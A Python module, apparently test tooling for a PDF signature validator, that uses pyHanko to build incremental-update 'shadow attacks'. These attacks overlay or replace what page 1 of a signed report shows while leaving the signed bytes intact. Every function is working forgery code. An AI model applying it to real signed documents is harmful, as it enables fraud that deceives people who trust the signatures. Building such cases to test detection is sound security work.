"""Incremental updates an attacker appends to a signed report (issue 20, item 4): each changes what a PDF reader
draws on page 1 without touching the signed bytes. No key is needed for any of them.

    shadow_signature_field(data, mode)   a new, empty signature field whose appearance covers the page
    shadow_form_field(data, mode)        a new text field with its value drawn over the page
    fill_form_field(data, name, mode)    a text field that was in the file before signing, filled afterwards
    shadow_annotation(data, mode)        a square annotation with its own appearance over the page
    text_field_before_signing(data)      the unsigned report with an empty text field over page 1 (a trap laid
                                         before the signatures)

`mode`: "hide" (a white box over the page), "replace" (other text drawn over it) or "hide-and-replace" (both).
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

MODES = ("hide", "replace", "hide-and-replace")
PAGE = (0, 0, 595, 842)  # A4 portrait, in points


def _drawing(mode: str) -> bytes:
    hide = b"1 1 1 rg 0 0 595 842 re f\n" if mode in ("hide", "hide-and-replace") else b""
    replace = b"0 0 0 rg BT /F1 28 Tf 60 700 Td (HA TINH: 999 999 999) Tj ET\n" if "replace" in mode else b""
    return hide + replace


def _appearance(writer: IncrementalPdfFileWriter, mode: str) -> generic.IndirectObject:
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(generic.FloatObject(v) for v in PAGE),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
            ),
        },
        stream_data=_drawing(mode),
    )
    return writer.add_object(stream)


def _rect() -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in PAGE)


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _out(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _add_widget_field(writer: IncrementalPdfFileWriter, field: generic.DictionaryObject) -> None:
    """`field` (a merged field and widget) on page 1 and in the form's fields."""
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    field[pdf_name("/Type")] = pdf_name("/Annot")
    field[pdf_name("/Subtype")] = pdf_name("/Widget")
    field[pdf_name("/Rect")] = _rect()
    field[pdf_name("/P")] = page_ref
    field[pdf_name("/F")] = generic.NumberObject(4)  # printed
    ref = writer.add_object(field)
    _add_annotation(writer, page, ref)
    root = writer.root
    form = root.get("/AcroForm")
    if form is None:
        root[pdf_name("/AcroForm")] = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([ref])})
        writer.update_root()
    else:
        form = form.get_object()
        form["/Fields"].get_object().append(ref)
        writer.update_container(form)
        writer.update_root()


def shadow_signature_field(data: bytes, mode: str) -> bytes:
    writer = _writer(data)
    field = generic.DictionaryObject({pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): pdf_string("Shadow")})
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(writer, mode)})
    _add_widget_field(writer, field)
    return _out(writer)


def shadow_form_field(data: bytes, mode: str) -> bytes:
    writer = _writer(data)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string("GhiChu"),
            pdf_name("/V"): pdf_string("HA TINH: 999 999 999"),
            pdf_name("/DA"): pdf_string("/Helv 28 Tf 0 g"),
        }
    )
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(writer, mode)})
    _add_widget_field(writer, field)
    return _out(writer)


def text_field_before_signing(data: bytes) -> bytes:
    """An empty text field over page 1, with an empty appearance: the page looks the same when it is signed."""
    writer = _writer(data)
    field = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): pdf_string("GhiChu"),
            pdf_name("/DA"): pdf_string("/Helv 28 Tf 0 g"),
        }
    )
    empty = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _rect(),
            },
            stream_data=b"",
        )
    )
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): empty})
    _add_widget_field(writer, field)
    return _out(writer)


def fill_form_field(data: bytes, name: str, mode: str) -> bytes:
    """The text field `name` (there before signing) filled, its new appearance drawn over the page."""
    writer = _writer(data)
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == name:
            field[pdf_name("/V")] = pdf_string("HA TINH: 999 999 999")
            field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _appearance(writer, mode)})
            writer.update_container(field)
            return _out(writer)
    raise KeyError(name)


def shadow_annotation(data: bytes, mode: str) -> bytes:
    writer = _writer(data)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Square"),
            pdf_name("/Rect"): _rect(),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(writer, mode)}),
        }
    )
    _add_annotation(writer, page, writer.add_object(annot))
    return _out(writer)


def _add_annotation(
    writer: IncrementalPdfFileWriter, page: generic.DictionaryObject, ref: generic.IndirectObject
) -> None:
    annots = page.raw_get("/Annots") if "/Annots" in page else None
    if annots is None:
        page[pdf_name("/Annots")] = generic.ArrayObject([ref])
        writer.update_container(page)
    elif isinstance(annots, generic.IndirectObject):
        array = annots.get_object()
        array.append(ref)
        writer.mark_update(annots)
    else:
        annots.append(ref)
        writer.update_container(page)
